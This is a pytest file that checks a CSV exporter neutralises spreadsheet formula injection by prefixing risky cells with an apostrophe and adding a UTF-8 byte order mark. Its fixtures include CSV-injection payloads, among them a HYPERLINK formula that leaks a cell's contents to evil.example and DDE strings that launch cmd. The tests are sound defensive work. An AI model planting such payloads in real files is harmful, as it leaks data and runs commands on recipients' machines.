"""CSV that is safe to open in a spreadsheet (issue 11, item 2): every cell that starts like a
formula is neutralised with a leading apostrophe, as OWASP recommends, and the file starts
with a byte order mark unless asked not to, so spreadsheets read it as UTF-8."""

from __future__ import annotations

import csv
import io

import pytest

from briefing.core.annotations import AnchorStatus, Highlight, TextQuote
from briefing.core.export import ArticleRef, Briefing, ExportEntry, render
from briefing.core.export.csv_format import CSV_FIELDS, FORMULA_STARTS, neutralise, to_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&F2,"x")'


def entry(
    *,
    title: str = "Reunión en La Habana",
    source: str | None = "EFE",
    quote: str = "the quoted words",
    note: str = "",
    tags: tuple[str, ...] = (),
    color: str = "key-fact",
    author: str = "Zoë",
    article_id: str = "002_abc",
    start: int | None = 5,
) -> ExportEntry:
    ref = ArticleRef(
        id=article_id,
        title=title,
        source=source,
        date="2010-02-18",
        path="002_abc.txt",
        corpus_name="corpus",
        tags=(),
        note="",
    )
    target = TextQuote(quote, "", "", start or 0, (start or 0) + len(quote), "h")
    h = Highlight(
        id="00000000-0000-4000-8000-000000000001",
        created="2025-03-01T09:00:00Z",
        modified="2025-03-01T09:00:00Z",
        author=author,
        color=color,
        note=note,
        tags=list(tags),
        target=target,
    )
    end = None if start is None else start + len(quote)
    status = AnchorStatus.EXACT if start is not None else AnchorStatus.ORPHANED
    return ExportEntry(ref, h, status, start, end, quote, "", "", 3)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_issue_inputs_are_neutralised() -> None:
    hostile = entry(title="=1+1 in the title", quote="+SUM(1,2)", note=HYPERLINK, tags=("@tag",))
    (row,) = rows(to_csv(Briefing(entries=(hostile,), articles=(hostile.article,))))
    assert row["note"] == "'" + HYPERLINK
    assert row["tags"] == "'@tag"
    assert row["quote"] == "'+SUM(1,2)"
    assert row["title"] == "'=1+1 in the title"
    assert row["start"] == "5" and row["end"] == "14"  # numbers stay numbers


@pytest.mark.parametrize(
    "value",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-5",  # OWASP's rule takes negative numbers too: chosen, see csv_format
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
@pytest.mark.parametrize("field", ["title", "source", "quote", "note", "color", "author", "id"])
def test_every_text_cell_that_starts_like_a_formula_is_quoted(field: str, value: str) -> None:
    kwargs = {"article_id" if field == "id" else field: value}
    e = entry(**kwargs)  # type: ignore[arg-type]
    (row,) = rows(to_csv(Briefing(entries=(e,), articles=(e.article,))))
    column = "article_id" if field == "id" else field
    assert row[column] == "'" + value
    for name, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), (name, cell)


def test_harmless_cells_are_left_alone() -> None:
    for text in ["", "plain", " =1+1 leads with a space", "'already quoted", "5 - 3", "a=b", "#1"]:
        assert neutralise(text) == text
    e = entry(note='Commas, "quotes" and\nlines', tags=("cuba", "-x"), source=None, start=None)
    (row,) = rows(to_csv(Briefing(entries=(e,), articles=(e.article,))))
    assert row["note"] == 'Commas, "quotes" and\nlines'
    assert row["tags"] == "cuba;-x"  # the cell starts with "c": nothing to run
    assert row["source"] == row["start"] == row["end"] == ""
    assert row["status"] == "orphaned"


def test_render_starts_csv_with_a_bom_by_default() -> None:
    e = entry()
    briefing = Briefing(entries=(e,), articles=(e.article,))
    text = render(briefing, "csv")
    assert text.startswith("\ufeff" + ",".join(CSV_FIELDS) + "\r\n")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert "Reunión en La Habana".encode() in text.encode("utf-8")
    assert render(briefing, "csv", bom=False) == to_csv(briefing)
    assert not render(briefing, "markdown").startswith("\ufeff")
    assert not render(briefing, "json").startswith("\ufeff")  # RFC 8259: no BOM in JSON
